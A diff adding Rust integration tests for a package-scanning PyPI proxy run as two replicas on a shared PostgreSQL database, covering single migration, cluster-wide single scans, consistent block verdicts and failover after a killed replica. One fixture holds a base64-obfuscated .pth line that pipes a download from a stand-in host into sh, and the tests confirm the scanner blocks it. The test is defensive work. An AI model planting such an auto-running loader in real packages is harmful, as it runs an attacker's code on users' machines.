@@ -1,0 +1,160 @@
+//! Replicas on PostgreSQL, end to end: a real PostgreSQL server started for each test
+//! (`initdb` + `pg_ctl`, see `common/pg.rs`), two `pipgate serve --database postgres://…`
+//! processes sharing it with no balancer in front (clients alternate), real pip and uv.
+
+mod common;
+use common::pg::{PgServer, PG_PASSWORD};
+use common::*;
+use std::time::{Duration, Instant};
+
+const PTH_EXEC: &str = "import base64;exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCBodHRwOi8vMjAzLjAuMTEzLjcveCB8IHNoIik='))\n";
+
+fn repo_policy() -> String {
+    std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/policy.yaml")).unwrap()
+}
+
+/// Two replicas on one database, started at once (their migrations race).
+fn two_replicas(upstream: &str, db_url: &str, policy: &str) -> (Pipgate, Pipgate) {
+    let start = || {
+        let (u, d, p) = (upstream.to_string(), db_url.to_string(), policy.to_string());
+        std::thread::spawn(move || Pipgate::start_full(&u, Some(&p), &["--database", &d], &[]))
+    };
+    let (a, b) = (start(), start());
+    (a.join().unwrap(), b.join().unwrap())
+}
+
+/// Rows of a query on the test database (a one-off connection).
+fn query(db_url: &str, sql: &str) -> Vec<tokio_postgres::Row> {
+    let rt = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
+    rt.block_on(async {
+        let (client, conn) = tokio_postgres::connect(db_url, tokio_postgres::NoTls).await.unwrap();
+        let driver = tokio::spawn(conn);
+        let rows = client.query(sql, &[]).await.unwrap();
+        drop(client);
+        let _ = driver.await;
+        rows
+    })
+}
+
+/// How many times a replica's log says it scanned these bytes.
+fn scans_of(gate: &Pipgate, sha256: &str) -> usize {
+    gate.log().lines().filter(|l| l.contains("scanning") && l.contains(sha256)).count()
+}
+
+/// The absolute URL of a file as a replica lists it.
+fn file_url(gate: &Pipgate, project: &str, filename: &str) -> String {
+    let page: serde_json::Value = http()
+        .get(format!("{}{project}/", gate.url))
+        .header("Accept", "application/vnd.pypi.simple.v1+json")
+        .send()
+        .unwrap()
+        .json()
+        .unwrap();
+    let f = page["files"].as_array().unwrap().iter().find(|f| f["filename"] == filename).unwrap();
+    let base = url::Url::parse(&format!("{}{project}/", gate.url)).unwrap();
+    base.join(f["url"].as_str().unwrap()).unwrap().to_string()
+}
+
+#[test]
+fn two_replicas_scan_each_artifact_once_and_give_the_same_verdicts() {
+    let pg = PgServer::start();
+    let db = pg.url("postgres");
+    let idx = FakeIndex::start(Format::Json);
+    let base = wheel("demo-base", "1.0", &[], &[]);
+    let app = wheel("demo-app", "1.0", &["demo-base"], &[]);
+    let evil = wheel("demo-pth", "1.0", &[], &[("demo_pth_init.pth", PTH_EXEC)]);
+    let shas = [("demo-base", sha256_hex(&base.bytes)), ("demo-app", sha256_hex(&app.bytes))];
+    let evil_sha = sha256_hex(&evil.bytes);
+    idx.add_dist("demo-base", base);
+    idx.add_dist("demo-app", app);
+    idx.add_dist("demo-pth", evil);
+    let (a, b) = two_replicas(&idx.url(), &db, &repo_policy());
+
+    let migrations = query(&db, "SELECT version, name FROM pipgate_migrations");
+    assert_eq!(migrations.len(), 1, "two replicas starting at once migrate once");
+
+    // Four clients at once, alternating replicas and tools.
+    let installs: Vec<_> = [(&a, "pip"), (&b, "uv"), (&b, "pip"), (&a, "uv")]
+        .into_iter()
+        .map(|(gate, tool)| {
+            let (url, tool) = (gate.url.clone(), tool.to_string());
+            std::thread::spawn(move || {
+                let venv = Venv::new();
+                let args = ["install", "--index-url", url.as_str(), "demo-app"];
+                let out = if tool == "pip" { venv.pip(&args) } else { venv.uv_pip(&args) };
+                assert!(out.status.success(), "{tool} via {url}: {}", show(&out));
+                venv.run("import demo_app, demo_base; print(demo_app.VERSION, demo_base.VERSION)")
+            })
+        })
+        .collect();
+    for i in installs {
+        assert_eq!(i.join().unwrap(), "1.0 1.0");
+    }
+    for (name, sha) in &shas {
+        let (on_a, on_b) = (scans_of(&a, sha), scans_of(&b, sha));
+        assert_eq!(on_a + on_b, 1, "{name} is scanned once cluster-wide (a: {on_a}, b: {on_b})");
+    }
+
+    // The same verdict from both: the malicious wheel is blocked by each replica.
+    for (gate, tool) in [(&a, "pip"), (&b, "uv")] {
+        let venv = Venv::new();
+        let args = ["install", "--index-url", gate.url.as_str(), "demo-pth"];
+        let out = if tool == "pip" { venv.pip(&args) } else { venv.uv_pip(&args) };
+        assert!(!out.status.success(), "{tool} via {}: {}", gate.url, show(&out));
+        assert!(String::from_utf8_lossy(&out.stderr).contains("403"), "{}", show(&out));
+        let blocked = gate.audit().iter().any(|r| r["decision"] == "block" && r["project"] == "demo-pth");
+        assert!(blocked, "{} audits its block", gate.url);
+    }
+    assert_eq!(scans_of(&a, &evil_sha) + scans_of(&b, &evil_sha), 1, "the blocked wheel is scanned once");
+    let stored = query(&db, "SELECT count(*) FROM scans");
+    assert_eq!(stored[0].get::<_, i64>(0), 3, "three reports in the shared store");
+
+    for gate in [&a, &b] {
+        assert!(!gate.log().contains(PG_PASSWORD), "the database password is never logged");
+    }
+}
+
+#[test]
+fn a_replica_killed_mid_download_leaves_the_other_serving_the_whole_file() {
+    let pg = PgServer::start();
+    let db = pg.url("postgres");
+    let idx = FakeIndex::start(Format::Json);
+    let (filename, generated) = Generated::wheel("demo-big", "1.0", 192);
+    let (len, sha) = (generated.len, generated.sha256.clone());
+    let mut f = FakeFile::new(Dist { filename: filename.clone(), bytes: vec![], metadata: None });
+    f.generated = Some(std::sync::Arc::new(generated));
+    idx.add("demo-big", f);
+    let (mut a, b) = two_replicas(&idx.url(), &db, "# empty test policy\n");
+    let client = reqwest::blocking::Client::builder().no_proxy().timeout(Duration::from_secs(120)).build().unwrap();
+
+    // A client asks replica A; once A holds the file's flight lease (it is downloading), A dies.
+    let url_a = file_url(&a, "demo-big", &filename);
+    let on_a = {
+        let c = client.clone();
+        std::thread::spawn(move || c.get(url_a).send().and_then(|r| Ok((r.status().as_u16(), r.bytes()?.len()))))
+    };
+    let deadline = Instant::now() + Duration::from_secs(20);
+    while query(&db, "SELECT key FROM flight_leases").is_empty() {
+        assert!(Instant::now() < deadline, "replica A never took the flight lease: {}", a.log());
+        std::thread::sleep(Duration::from_millis(10));
+    }
+    a.child.kill().unwrap();
+    a.child.wait().unwrap();
+    match on_a.join().unwrap() {
+        Ok((status, got)) => {
+            assert!(!(status == 200 && got as u64 == len), "A's client got the whole file from a dead replica")
+        }
+        Err(_) => {} // the connection died with the replica: nothing was served
+    }
+
+    // Replica B takes the dead replica's lease over once it expires, and serves every byte.
+    let started = Instant::now();
+    let mut resp = client.get(file_url(&b, "demo-big", &filename)).send().unwrap();
+    assert_eq!(resp.status(), 200, "{}", b.log());
+    let mut hasher = <sha2::Sha256 as sha2::Digest>::new();
+    let got = std::io::copy(&mut resp, &mut hasher).unwrap();
+    assert_eq!((got, hex::encode(sha2::Digest::finalize(hasher))), (len, sha), "the whole file, verified");
+    println!("replica B served {} MiB {:.1} s after A died", len >> 20, started.elapsed().as_secs_f64());
+    assert!(b.log().contains("took over an expired flight lease"), "{}", b.log());
+    assert_eq!(scans_of(&b, &sha), 1);
+}
